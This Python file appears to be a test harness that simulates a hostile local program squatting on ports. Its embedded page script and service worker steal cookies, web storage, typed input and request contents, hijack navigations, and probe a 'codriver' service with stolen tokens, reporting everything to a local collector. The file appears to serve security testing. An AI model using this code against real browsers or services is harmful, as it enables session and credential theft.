"""A program of another user that occupies ports of this machine, with pages and workers that report what they find.

Commands are lines of JSON, and each is answered by a line of JSON. It runs from its source text, because that user
cannot read our files.
"""

import asyncio
import base64
import contextlib
import json
import sys
import threading

PAGE = """<!doctype html><title>hostile</title><body><textarea name="text"></textarea><input name="text"><script>
const report = (kind, found) => fetch("http://127.0.0.1:COLLECT/loot", {
  method: "POST", mode: "no-cors", body: JSON.stringify({ kind, at: location.href, found }) }).catch(() => 0);
const all = (storage) => Object.entries(storage);
(async () => {
  report("page", {
    hash: location.hash, session: all(sessionStorage), local: all(localStorage), cookie: document.cookie,
    name: window.name, referrer: document.referrer, state: history.state, opener: String(window.opener),
    caches: await caches.keys(), databases: await indexedDB.databases(),
  });
  for (const name of ["", "codriver", "page"]) new BroadcastChannel(name).onmessage = (one) => report("told", one.data);
  setTimeout(() => report("typed", [...document.querySelectorAll("input, textarea")].map((one) => one.value)), 500);
  try {
    await navigator.serviceWorker.register("/worker.js");
    await navigator.serviceWorker.ready;
    await report("worker", 1);
  } catch (error) { await report("worker", String(error)); }
  const { next, targets } = await (await fetch("/next")).json();
  if (next) { location.replace(next); return; }
  // From here on the next server is waited for, at every name that is known.
  for (;;) {
    const { targets } = await (await fetch("/next")).json();
    for (const { port, hosts, tokens } of targets) for (const host of hosts) for (const token of ["", ...tokens])
      for (const [path, method] of [["/", "GET"], ["/main.js", "GET"], ["/enter", "POST"], ["/do/handoff", "POST"]])
        try {
          const headers = method === "POST" ? { "content-type": "application/json", "codriver-token": token } : {};
          const body = method === "POST" ? "{}" : undefined;
          report("answer", await (await fetch(`http://${host}:${port}${path}`, { method, headers, body })).text());
        } catch { /* nothing came */ }
    if (targets.length) report("tried", targets.length);
    await new Promise((done) => setTimeout(done, 200));
  }
})();
</script>"""
WORKER = """
const report = (kind, found) => fetch("http://127.0.0.1:COLLECT/loot", {
  method: "POST", mode: "no-cors", body: JSON.stringify({ kind, at: location.href, found }) }).catch(() => 0);
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { request } = event;
  if (request.url.includes(":COLLECT/")) return;
  event.respondWith((async () => {
    const body = await request.clone().text();
    const known = (await clients.matchAll({ includeUncontrolled: true })).map((one) => one.url);
    report("fetched", { url: request.url, headers: [...request.headers], body, known });
    if (request.mode !== "navigate") return fetch(request).catch(() => Response.error());
    return new Response("<!doctype html><body>hijacked by a worker<script>fetch('http://127.0.0.1:COLLECT/loot', " +
      "{ method: 'POST', mode: 'no-cors', body: location.href })<" + "/script>",
      { headers: { "content-type": "text/html" } });
  })());
});
"""


class Hostile:
    """The ports, what they received, and what the pages do next."""

    def __init__(self):
        self.loot, self.servers, self.ports, self.targets = [], [], [], []
        self.collect = 0

    async def listen(self, host, port):
        try:
            server = await asyncio.start_server(self.answer, host, port, limit=2**20)
        except OSError as error:
            return {"errno": error.errno}
        self.servers.append(server)
        return {"port": server.sockets[0].getsockname()[1]}

    async def release(self):
        """Close all ports except the one that collects reports."""
        for server in self.servers[1:]:
            server.close()
        del self.servers[1:]

    async def answer(self, reader, writer):
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            while head := await reader.readuntil(b"\r\n\r\n"):
                lines = head.decode("latin-1").split("\r\n")
                length = next(
                    (int(line.split(":")[1]) for line in lines if line.lower().startswith("content-length")), 0
                )
                body = (await reader.readexactly(length)).decode("utf-8", "replace")
                self.loot.append([writer.get_extra_info("sockname")[1], head.decode("latin-1"), body])
                kind, text = self.served(lines[0])
                text = text.replace("COLLECT", str(self.collect)).encode()
                writer.write(
                    b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nService-Worker-Allowed: /\r\nContent-Length: %d\r\n"
                    b"Access-Control-Allow-Origin: *\r\n\r\n" % (kind, len(text)) + text
                )
        writer.close()

    def served(self, line):
        if " /worker.js " in line:
            return b"text/javascript", WORKER
        if " /next " in line:
            return b"application/json", json.dumps({"next": self.next(), "targets": self.targets})
        if line.startswith("POST "):
            return b"application/json", json.dumps({"proof": "ab" * 32, "token": "x" * 43, "answer": {"ok": True}})
        return b"text/html", PAGE

    def workers(self):
        """Return the addresses at which a worker was registered."""
        bodies = [json.loads(body) for _, _, body in self.loot if body.startswith('{"kind":"worker"')]
        return [item["at"] for item in bodies if item["found"] == 1]

    def next(self):
        return self.ports.pop() if self.ports else None


async def main():
    hostile, loop = Hostile(), asyncio.get_running_loop()
    hostile.collect = (await hostile.listen("127.0.0.1", 0))["port"]
    commands = asyncio.Queue()

    def read():
        for line in sys.stdin:
            loop.call_soon_threadsafe(commands.put_nowait, json.loads(line))
        loop.call_soon_threadsafe(commands.put_nowait, None)

    threading.Thread(target=read, daemon=True).start()
    print(json.dumps("up"), flush=True)
    while command := await commands.get():
        name, *given = command
        if name == "listen":
            answer = await hostile.listen(*given)
        elif name == "release":
            answer = await hostile.release()
        elif name == "visit":
            hostile.ports, answer = given, None
        elif name == "target":
            hostile.targets, answer = given, None
        elif name == "workers":
            answer = hostile.workers()
        else:
            answer = hostile.loot
        print(base64.b64encode(json.dumps(answer).encode()).decode(), flush=True)


asyncio.run(main())
